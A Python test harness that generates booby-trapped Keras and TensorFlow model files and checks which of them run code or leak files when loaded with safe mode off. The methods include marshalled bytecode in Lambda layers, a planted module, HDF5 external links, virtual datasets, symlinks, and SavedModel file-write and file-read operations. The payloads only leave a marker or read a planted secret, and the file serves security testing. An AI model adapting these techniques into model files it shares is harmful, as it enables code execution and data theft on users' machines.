"""Model files that do harm when they are loaded carelessly, made in code from a good one and a place for a mark.

``python -P hostile.py GOOD.keras GOOD.h5 FOLDER`` makes each in a folder of its own, reads it carelessly, and notes
which of them did their harm; the marks that they left are wiped off again.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import marshal
import os
import shutil
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

SECRET = b"the secret of another file"


@dataclass(frozen=True)
class Place:
    """Files that a case may use, and the place of its mark."""

    good: Path  # a good .keras file, Sequential
    good_h5: Path
    folder: Path  # of this case alone

    @property
    def mark(self) -> Path:
        return self.folder / "mark"


Make = Callable[[Place], Path]
CODE: dict[str, Make] = {}  # runs what the file says
READS: dict[str, Make] = {}  # reads what is not in the file
PROGRAMS: dict[str, Make] = {}  # SavedModels: writes or reads through operations of TensorFlow


def code(make: Make) -> Make:
    CODE[make.__name__] = make
    return make


def reads(make: Make) -> Make:
    READS[make.__name__] = make
    return make


def program(make: Make) -> Make:
    PROGRAMS[make.__name__] = make
    return make


def packed(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def members(good: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(good) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def configured(place: Place, change: Callable[[dict[str, Any]], object]) -> Path:
    """The good model with another configuration: ``change`` edits it, or gives a new one."""
    found = members(place.good)
    config = json.loads(found["config.json"])
    config = change(config) or config
    return packed(place.folder / "model.keras", {**found, "config.json": json.dumps(config).encode()})


def configured_h5(place: Place, change: Callable[[dict[str, Any]], object]) -> Path:
    import h5py

    path = place.folder / "model.h5"
    shutil.copy(place.good_h5, path)
    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        change(config)
        file.attrs["model_config"] = json.dumps(config)
    return path


def bytecode(mark: Path) -> list[Any]:
    """A function of any arguments that leaves a mark and gives its first argument back."""
    scope: dict[str, Any] = {}
    exec(f"def f(x, *a, **k):\n    open({str(mark)!r}, 'w').close()\n    return x\n", scope)
    return [base64.encodebytes(marshal.dumps(scope["f"].__code__)).decode(), None, None]


def lambda_value(mark: Path) -> dict[str, Any]:
    return {"class_name": "__lambda__", "config": {"value": bytecode(mark)}}


def lambda_function(mark: Path) -> dict[str, Any]:
    code, defaults, closure = bytecode(mark)
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": defaults, "closure": closure}}


def layer(kind: str, **config: Any) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": kind,
        "config": {"name": kind.lower(), **config},
        "registered_name": None,
    }


def function(name: str) -> dict[str, Any]:
    module, _, name = name.rpartition(".")
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def first(config: dict[str, Any], added: dict[str, Any]) -> None:
    """Put a layer behind the input."""
    config["config"]["layers"].insert(1, added)


@code
def lambda_layer(place: Place) -> Path:
    return configured(place, lambda config: first(config, layer("Lambda", function=lambda_function(place.mark))))


@code
def lambda_in_an_inner_model(place: Place) -> Path:
    inner = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "inner", "layers": [layer("Lambda", function=lambda_function(place.mark))]},
        "registered_name": None,
    }
    return configured(place, lambda config: first(config, inner))


@code
def lambda_in_a_wrapper(place: Place) -> Path:
    inner = layer("Lambda", function=lambda_function(place.mark))
    return configured(place, lambda config: first(config, layer("TimeDistributed", layer=inner)))


@code
def lambda_as_activation(place: Place) -> Path:
    return configured(place, lambda config: first(config, layer("Activation", activation=lambda_value(place.mark))))


@code
def lambda_as_output_shape(place: Place) -> Path:
    shape = lambda_function(place.mark)
    added = layer("Lambda", function=function("keras.activations.relu"), output_shape=shape)
    return configured(place, lambda config: first(config, added))


@code
def lambda_in_an_unpacked_folder(place: Place) -> Path:
    path = lambda_layer(place)
    with zipfile.ZipFile(path) as archive:
        archive.extractall(place.folder / "model")
    return place.folder / "model"


@code
def lambda_in_h5(place: Place) -> Path:
    added = {"class_name": "Lambda", "config": {"name": "lambda", "function": lambda_function(place.mark)}}
    return configured_h5(place, lambda config: first(config, added))


@code
def lambda_in_h5_as_long_ago(place: Place) -> Path:
    old = {"name": "lambda", "function": bytecode(place.mark), "function_type": "lambda", "arguments": {}}
    return configured_h5(place, lambda config: first(config, {"class_name": "Lambda", "config": old}))


@code
def saved_model_as_a_layer(place: Place) -> Path:
    added = layer("TFSMLayer", filepath=str(writes_when_loaded(place)), call_endpoint="serving_default")
    return configured(place, lambda config: first(config, added))


@code
def saved_model_in_what_an_inner_model_was_compiled_with(place: Place) -> Path:
    added = layer("TFSMLayer", filepath=str(writes_when_loaded(place)), call_endpoint="serving_default")
    inner = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "inner", "layers": [layer("Flatten")]},
        "registered_name": None,
        "compile_config": {"optimizer": "sgd", "loss": added},
    }
    return configured(place, lambda config: first(config, inner))


def called(config: dict[str, Any], name: str, literal: str) -> dict[str, Any]:
    """A functional model with a call, which nothing reads, of a public function on a text."""
    tensor = {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 784], "dtype": "float32", "keras_history": ["i", 0, 0]},
    }
    start = layer("InputLayer", batch_shape=[None, 784], dtype="float32") | {"name": "i", "inbound_nodes": []}
    start["config"]["name"] = "i"
    dense = layer("Dense", units=10) | {"name": "dense", "inbound_nodes": [{"args": [tensor], "kwargs": {}}]}
    switch = {
        "module": "keras.src.ops.core",
        "class_name": "Switch",
        "config": {"name": "switch"},
        "registered_name": "Switch",
        "name": "switch",
        "inbound_nodes": [{"args": [0, [function(name)], literal], "kwargs": {}}],
    }
    graph = {"name": "f", "trainable": True, "layers": [start, dense, switch]}
    ends = {"input_layers": ["i", 0, 0], "output_layers": ["dense", 0, 0]}
    return config | {"module": "keras.src.models.functional", "class_name": "Functional", "config": graph | ends}


@code
def function_by_name(place: Place) -> Path:
    return configured(place, lambda config: called(config, "keras.config.set_floatx", "float16"))


@code
def saved_model_by_name(place: Place) -> Path:
    return configured(place, lambda config: called(config, "keras.layers.TFSMLayer", str(writes_when_loaded(place))))


@code
def module_by_name(place: Place) -> Path:
    (place.folder / "keras_cv.py").write_text(f"open({str(place.mark)!r}, 'w').close()\n")
    added: dict[str, Any] = {"module": "keras_cv", "class_name": "Thing", "config": {}, "registered_name": None}
    return configured(place, lambda config: first(config, added))


def weights(place: Place, change: Callable[[Any], None]) -> Path:
    """The good model with other weights."""
    import h5py

    found = members(place.good)
    content = io.BytesIO(found["model.weights.h5"])
    with h5py.File(content, "r+") as file:
        change(file)
    return packed(place.folder / "model.keras", {**found, "model.weights.h5": content.getvalue()})


def secret_h5(place: Place) -> Path:
    import h5py
    import numpy as np

    path = place.folder / "secret.h5"
    with h5py.File(path, "w") as file:
        file["secret"] = np.frombuffer(SECRET, np.uint8)
    return path


@reads
def external_link(place: Place) -> Path:
    import h5py

    secret = secret_h5(place)

    def change(file: Any) -> None:
        file["layers/stolen"] = h5py.ExternalLink(str(secret), "secret")

    return weights(place, change)


@reads
def external_storage(place: Place) -> Path:
    (place.folder / "secret.bin").write_bytes(SECRET)

    def change(file: Any) -> None:
        storage = [(str(place.folder / "secret.bin"), 0, len(SECRET))]
        file.create_dataset("layers/stolen", (len(SECRET),), "u1", external=storage)

    return weights(place, change)


@reads
def virtual_dataset(place: Place) -> Path:
    import h5py

    layout = h5py.VirtualLayout((len(SECRET),), "u1")
    layout[:] = h5py.VirtualSource(str(secret_h5(place)), "secret", (len(SECRET),))
    return weights(place, lambda file: file.create_virtual_dataset("layers/stolen", layout))


@reads
def external_link_in_h5(place: Place) -> Path:
    import h5py

    path = place.folder / "model.h5"
    shutil.copy(place.good_h5, path)
    with h5py.File(path, "r+") as file:
        file["model_weights/stolen"] = h5py.ExternalLink(str(secret_h5(place)), "secret")
    return path


@reads
def vocabulary(place: Place) -> Path:
    (place.folder / "secret.txt").write_bytes(SECRET)
    return configured(
        place, lambda config: first(config, layer("StringLookup", vocabulary=str(place.folder / "secret.txt")))
    )


@reads
def link_in_a_folder(place: Place) -> Path:
    with zipfile.ZipFile(place.good) as archive:
        archive.extractall(place.folder / "model")
    (place.folder / "secret.txt").write_bytes(SECRET)
    (place.folder / "model" / "metadata.json").unlink()
    (place.folder / "model" / "metadata.json").symlink_to(place.folder / "secret.txt")
    return place.folder / "model"


@program
def writes_when_loaded(place: Place) -> Path:
    """Through the initialiser of a table."""
    import tensorflow as tf

    class Resource(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc, unused-ignore]
        def _create_resource(self) -> Any:
            return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

        def _initialize(self) -> None:
            tf.io.write_file(str(place.mark), "written")

    module = tf.Module()
    module.resource = Resource()
    module.resource.resource_handle  # noqa: B018 - makes it
    return saved(place, lambda pixels: pixels, module)


@program
def writes_a_file(place: Place) -> Path:
    import tensorflow as tf

    def answer(pixels: Any) -> Any:
        with tf.control_dependencies([tf.raw_ops.WriteFile(filename=str(place.mark), contents="written")]):
            return tf.identity(pixels)

    return saved(place, answer)


@program
def prints_into_a_file(place: Place) -> Path:
    import tensorflow as tf

    def answer(pixels: Any) -> Any:
        with tf.control_dependencies([tf.raw_ops.PrintV2(input="written", output_stream=f"file://{place.mark}")]):
            return tf.identity(pixels)

    return saved(place, answer)


@program
def saves_a_tensor(place: Place) -> Path:
    import tensorflow as tf

    def answer(pixels: Any) -> Any:
        with tf.control_dependencies([tf.raw_ops.Save(filename=str(place.mark), tensor_names=["a"], data=[pixels])]):
            return tf.identity(pixels)

    return saved(place, answer)


@program
def saves_under_the_name_of_a_saver(place: Place) -> Path:
    """The operations that every SavedModel has, in a function that is named like theirs and that an answer needs."""
    import tensorflow as tf

    @tf.function(autograph=False)  # type: ignore[untyped-decorator, unused-ignore]
    def traced_save(pixels: Any) -> Any:
        names, slices = [["a"], [""]]
        with tf.control_dependencies(
            [tf.raw_ops.SaveV2(prefix=str(place.mark), tensor_names=names, shape_and_slices=slices, tensors=[pixels])]
        ):
            return tf.identity(pixels)

    return saved(place, traced_save)


@program
def reads_a_file(place: Place) -> Path:
    import tensorflow as tf

    (place.folder / "secret.txt").write_bytes(SECRET)
    return saved(place, lambda pixels: tf.io.read_file(str(place.folder / "secret.txt")))


def saved(place: Place, answer: Callable[[Any], Any], module: Any = None) -> Path:
    import tensorflow as tf

    module = module or tf.Module()
    spec = tf.TensorSpec([None, 28, 28, 1], tf.float32)
    module.serve = tf.function(answer, input_signature=[spec], autograph=False)
    tf.saved_model.save(module, str(place.folder / "saved"), signatures={"serving_default": module.serve})
    wipe(place)
    return place.folder / "saved"


def wipe(place: Place) -> None:
    for mark in place.folder.glob("mark*"):  # a checkpoint is several files
        mark.unlink()


def careless(path: Path) -> str:
    """Load it with every guard off and ask it once; what it gave away."""
    import keras
    import tensorflow as tf

    if (path / "saved_model.pb").exists():
        loaded = tf.saved_model.load(str(path))
        return str(loaded.signatures["serving_default"](tf.zeros([1, 28, 28, 1])))
    sys.path.insert(0, str(path.parent))
    try:
        model = keras.saving.load_model(str(path), compile=False, safe_mode=False)
        with contextlib.suppress(Exception):
            model(tf.zeros([1, *model.inputs[0].shape[1:]]))
        return " ".join(str(one.get_vocabulary()) for one in model.layers if hasattr(one, "get_vocabulary"))
    finally:
        if keras.config.floatx() != "float32":
            (path.parent / "mark").touch()


def stolen(path: Path) -> bool:
    """Tell whether a reader of its members, who knows nothing of links, gets the secret to see."""
    import h5py

    if path.is_dir():
        return any(SECRET in file.read_bytes() for file in path.iterdir())
    source = path
    if path.suffix == ".keras":
        source = path.with_name("weights.h5")
        source.write_bytes(members(path)["model.weights.h5"])
    with h5py.File(source) as file:
        parent = file["model_weights" if path.suffix == ".h5" else "layers"]
        return "stolen" in parent and SECRET in parent["stolen"][()].tobytes()


def forked(action: Callable[[], object]) -> bool:
    """Do it in a process of its own, and tell whether it gave something true."""
    pid = os.fork()
    if pid == 0:
        os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
        os.dup2(2, 1)
        found: object = False
        try:
            found = action()
        except BaseException as error:
            found = SECRET.decode() in str(error)
        os._exit(3 if found else 0)
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status) == 3


def harmful(place: Place, make: Make) -> bool:
    """Make one, read it carelessly, and see."""
    place.folder.mkdir()
    assert forked(lambda: (place.folder / "path").write_text(str(make(place)))), f"{make.__name__} cannot be made"
    wipe(place)
    path = Path((place.folder / "path").read_text())
    gave_away = forked(lambda: (path.name != "saved" and stolen(path)) or SECRET.decode() in careless(path))
    marked = any(place.folder.glob("mark*"))
    wipe(place)
    return gave_away or marked


def main(good: str, good_h5: str, folder: str) -> None:
    """Make all of them; leaves harmful.json, with what each of them did."""
    import keras  # noqa: F401 - once, before the forks

    Path(folder).mkdir()
    cases = {**CODE, **READS, **PROGRAMS}
    found = {name: harmful(Place(Path(good), Path(good_h5), Path(folder, name)), make) for name, make in cases.items()}
    Path(folder, "harmful.json").write_text(json.dumps(found))


if __name__ == "__main__":
    main(*sys.argv[1:])
